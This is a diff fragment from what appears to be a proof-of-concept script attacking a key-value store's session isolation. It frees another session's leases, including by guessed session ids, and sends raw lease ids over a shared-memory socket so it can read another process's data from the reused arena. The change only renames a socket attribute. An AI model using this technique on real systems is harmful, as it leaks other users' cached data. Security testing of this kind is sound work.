@@ -43,8 +43,8 @@ with KVStoreClient(target) as b:
     release("own session, ids 1..N", b.session_id, guessed)
     release("own session, the victim's ids", b.session_id, victim_leases)
     release("a guessed session", secrets.randbits(63) or 1, victim_leases)
-    b._shm_sock.sendall(struct.pack(f"<{len(victim_leases)}Q", *victim_leases))  # on its own shm connection
-    b._shm_sock.sendall(struct.pack(f"<{len(guessed)}Q", *guessed))
+    b.session.sock.sendall(struct.pack(f"<{len(victim_leases)}Q", *victim_leases))  # on its own shm connection
+    b.session.sock.sendall(struct.pack(f"<{len(guessed)}Q", *guessed))
     for _ in range(3):  # reuse whatever was freed: read another prefix into the arena
         with b.prefetch(other_pid, period_layers=8, shm=False) as st:
             for p in range(st.num_periods):
